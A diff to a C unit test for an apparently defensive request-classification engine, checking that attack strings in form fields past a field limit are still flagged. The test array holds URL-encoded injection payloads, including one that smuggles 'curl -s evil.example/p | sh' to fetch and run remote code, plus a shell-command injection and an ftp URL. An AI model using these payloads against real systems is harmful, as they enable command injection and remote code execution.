@@ -140,12 +140,14 @@ static void test_form_fields_past_the_bound(const lw_engine_t *e,
      * yields one by one (LW_BODY_MAX_FIELDS) */
     static const char *const attacks[] = {
         "%3Buname+-a", "%21%21%5B%5D%2B%21%21%5B%5D%2B%5B%5D",
-        "Please+%60curl+-s+evil.example%2Fp+%7C+sh%60+thanks"
+        "Please+%60curl+-s+evil.example%2Fp+%7C+sh%60+thanks",
+        /* and one only a rule anchored at the value's start flags */
+        "ftp%3A%2F%2F198.51.100.44%2Fpub%2Fr.txt"
     };
     lw_result_t res;
     int i;
 
-    for (i = 0; i < 3; i++) {
+    for (i = 0; i < 4; i++) {
         CHECK(classify_form(e, 10, attacks[i], p, &res) == 1);
         CHECK(classify_form(e, 1100, attacks[i], p, &res) == 1);
     }
